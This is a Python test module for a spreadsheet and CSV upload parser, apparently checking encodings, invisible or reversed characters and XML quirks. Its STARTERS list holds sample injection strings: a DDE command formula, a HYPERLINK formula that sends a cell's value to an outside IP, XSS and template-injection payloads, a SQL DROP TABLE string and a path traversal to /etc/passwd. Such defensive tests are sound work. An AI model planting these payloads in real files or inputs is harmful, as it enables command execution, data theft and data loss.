"""Hostile text: encodings, what cannot be seen, what turns round, what some program would run."""

from collections.abc import Mapping

from tests.hostile.making import MAIN, Case, given, package, rows
from uploads.cells import Book

NAUGHTY = "Tŷ Ŵyn’s café – £12"


def _line(text: str) -> str:
    return f"Enterprise,Note\nFen,{text}\n"


SHEET = "xl/worksheets/sheet1.xml"


def _encoded(text: str, encoding: str) -> bytes:
    """The part of a sheet with this text in its first cell, which says how it is encoded."""
    part = f'<worksheet xmlns="{MAIN}"><sheetData>{rows([text])}</sheetData></worksheet>'
    return f'<?xml version="1.0" encoding="{encoding}"?>{part}'.encode(encoding)


NUL = (
    Case(
        "a NUL in a text file",
        lambda: b"a,b\nx\0y,1\n",
        "list.csv",
        refused="text.nul",
        facts={"row": 2},
    ),
    Case(
        "a NUL behind a cell of two lines",
        lambda: b'a,b\n"x\ny",1\nz,\0\n',
        "list.csv",
        refused="text.nul",
        facts={"row": 3},
    ),
    Case(
        "a NUL and other controls in a workbook",
        lambda: package(rows(["a_x0000_b", "c_x0007_d", "e_x000D_\nf", "g\th"])),
        cells={"A1": "a b", "B1": "c d", "C1": "e\nf", "D1": "g\th"},
    ),
)

ENCODINGS = (
    Case(
        "UTF-8 with its mark",
        lambda: b"\xef\xbb\xbf" + _line(NAUGHTY).encode(),
        "list.csv",
        cells={"A1": "Enterprise", "B2": NAUGHTY},
        check=lambda book: book.notes == (),
    ),
    Case(
        "UTF-8 without a mark",
        lambda: _line(NAUGHTY).encode(),
        "list.txt",
        cells={"B2": NAUGHTY},
        check=lambda book: book.notes == (),
    ),
    Case(
        "UTF-16, little end first",
        lambda: b"\xff\xfe" + _line(NAUGHTY).encode("utf-16-le"),
        "list.csv",
        cells={"A1": "Enterprise", "B2": NAUGHTY},
    ),
    Case(
        "UTF-16, big end first",
        lambda: b"\xfe\xff" + _line(NAUGHTY).encode("utf-16-be"),
        "list.csv",
        cells={"B2": NAUGHTY},
    ),
    Case(
        "UTF-16 cut in a letter",
        lambda: b"\xff\xfe" + _line(NAUGHTY).encode("utf-16-le")[:-1],
        "list.csv",
        refused="text.undecodable",
    ),
    Case(
        "UTF-16 without a mark",
        lambda: _line(NAUGHTY).encode("utf-16-le"),
        "list.csv",
        refused="kind.unknown",
    ),
    Case(
        "Windows",
        lambda: _line("Café – £12 “now”").encode("cp1252"),
        "list.csv",
        cells={"B2": "Café – £12 “now”"},
        note="Windows (Western European) text, for example “Café”",
    ),
    Case(
        "Windows with semicolons and decimal commas",
        lambda: "Name;Stunden;Satz\nMüller;7,5;1.234,56\nZoë;8,25;9,10\n".encode("cp1252"),
        "list.csv",
        cells={"A2": "Müller", "B2": "7,5", "C2": "1.234,56", "B3": "8,25"},
        note="semicolons",
    ),
    Case(
        "two encodings in one file",
        lambda: _line(f"{NAUGHTY} {NAUGHTY}").encode() + "Caf\xe9,x\n".encode("cp1252"),
        "list.csv",
        refused="text.mixed",
        facts={"row": 3},
    ),
    Case(
        "letters lost earlier",
        lambda: _line("Caf\ufffd").encode(),
        "list.csv",
        refused="text.lost",
        facts={"row": 2},
    ),
    Case(
        "a byte that Windows does not know",
        lambda: b"a,b\nx,caf\x81\n",
        "list.csv",
        refused="text.undecodable",
        facts={"row": 2},
    ),
    Case(
        "a mark that lies",
        lambda: b"\xef\xbb\xbfa,b\nx,caf\xe9\n",
        "list.csv",
        refused="text.undecodable",
        facts={"row": 2},
    ),
    Case(
        "parts of a workbook in UTF-16",
        lambda: package("", parts={SHEET: _encoded(NAUGHTY, "UTF-16")}),
        cells={"A1": NAUGHTY},
    ),
    Case(
        "a part in another encoding",
        lambda: package("", parts={SHEET: _encoded("Café", "ISO-8859-1")}),
        cells={"A1": "Café"},
    ),
    Case(
        "a part in an encoding that hides tags",
        lambda: package("", parts={SHEET: _encoded("Fen", "UTF-7")}),
        refused="damaged",
    ),
)


# As it is in the file, and as it is kept.
UNSEEN: Mapping[str, tuple[str, str]] = {
    "turned round, for a later check to name the cell": ("abc\u202ecba", "abc\u202ecba"),
    "isolates": ("a\u2066b\u2069", "a\u2066b\u2069"),
    "zero-width": ("Fen\u200b Care\u2060\ufeff\u00ad", "Fen Care"),
    "joiners in Latin": ("Fen\u200d Ca\u200cre", "Fen Care"),
    "joiners between Welsh letters": ("Tŷ\u200dŵ", "Tŷŵ"),
    "joiners that mean something": ("می\u200cخواهم 👩\u200d👧", "می\u200cخواهم 👩\u200d👧"),
    "homoglyphs": ("асme", "асme"),
    "full width": ("Ｆｅｎ １２", "Ｆｅｎ １２"),
    "combining marks": ("Cafe\u0301 y\u0302", "Café ŷ"),
    "many combining marks": ("e" + "\u0301" * 500, "é" + "\u0301" * 499),
    "Welsh, Irish, emoji": ("Ŵyn O’Neill O'Neill 😀 ❤\ufe0f", "Ŵyn O’Neill O'Neill 😀 ❤\ufe0f"),
    "right to left": ("עִבְרִית اَلْعَرَبِيَّةُ", "עִבְרִית اَلْعَرَبِيَّةُ"),
    "line ends": ("a\r\nb\rc\nd", "a\nb\nc\nd"),
    "controls": ("a\x07b\x7fc\x85d", "a b c d"),
}

STARTERS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\n=1+1",
    "＝1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://192.0.2.1/?x="&A1,"here")',
    "-12.5",
    "<script>alert(1)</script>",
    '"><img src=x onerror=1>',
    "{{7*7}}",
    "{% debug %}",
    "'; DROP TABLE enterprises; --",
    "../../etc/passwd",
)


def _quoted(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def _in_text(texts: tuple[str, ...]) -> bytes:
    return "\n".join(["Text,Row", *(f"{_quoted(text)},x" for text in texts)]).encode()


def _in_workbook(texts: tuple[str, ...]) -> bytes:
    return package(rows(("Text", "Row"), *((text, "x") for text in texts)))


def _expected(texts: tuple[str, ...]) -> dict[str, str]:
    return {f"A{number}": text for number, text in enumerate(texts, start=2)}


_AS_IS = tuple(pair[0] for pair in UNSEEN.values())
_AS_KEPT = tuple(pair[1] for pair in UNSEEN.values())
# XML reads a carriage return as a line feed, and has no word for most controls.
_IN_XML = tuple(text.replace("\x07", "_x0007_") for text in _AS_IS)


def _one_row_each(book: Book) -> bool:
    return len(book.sheets[0].rows) == len(STARTERS) + 1


CHARACTERS = (
    Case(
        "in a text file",
        given(_in_text(_AS_IS)),
        "list.csv",
        cells=_expected(_AS_KEPT),
    ),
    Case("in a workbook", given(_in_workbook(_IN_XML)), cells=_expected(_AS_KEPT)),
)
RUN = (
    Case(
        "in a text file",
        given(_in_text(STARTERS)),
        "list.csv",
        cells=_expected(STARTERS),
        check=_one_row_each,
    ),
    Case(
        "in a workbook",
        given(_in_workbook(STARTERS)),
        cells=_expected(STARTERS),
        check=_one_row_each,
    ),
)

XML = (
    Case(
        "comments, instructions and CDATA in values",
        lambda: package(
            '<row r="1"><!-- <c r="XFD1"><v>1</v></c> --><c r="A1"><v>5<!-- x -->6</v></c>'
            '<c r="B1" t="str"><v><![CDATA[<c r="XFD9">&]]></v></c><?x <c?>'
            '<c r="C1" t="inlineStr"><is><t><![CDATA[Fen & Co]]></t></is></c></row>'
        ),
        cells={"B1": '<c r="XFD9">&', "C1": "Fen & Co"},
        check=lambda book: str(book.sheets[0].value(1, 0)) == "56",
    ),
    Case(
        "rich text, with how it is pronounced left out",
        lambda: package(
            '<row r="1"><c r="A1" t="inlineStr"><is><r><t>Fen</t></r><r><t xml:space="preserve"> '
            '&amp; Co</t></r><rPh sb="0" eb="1"><t>x</t></rPh></is></c></row>'
        ),
        cells={"A1": "Fen & Co"},
    ),
    Case(
        "attributes in another order and in single quotes",
        lambda: package(
            "<row r='1'><c t='str' r='B1' s='0'><v>x</v></c>"
            "<c s='1'  r = 'C1' ><v>45000</v></c></row>"
        ),
        cells={"B1": "x"},
        check=lambda book: str(book.sheets[0].value(1, 2)) == "2023-03-15",
    ),
)
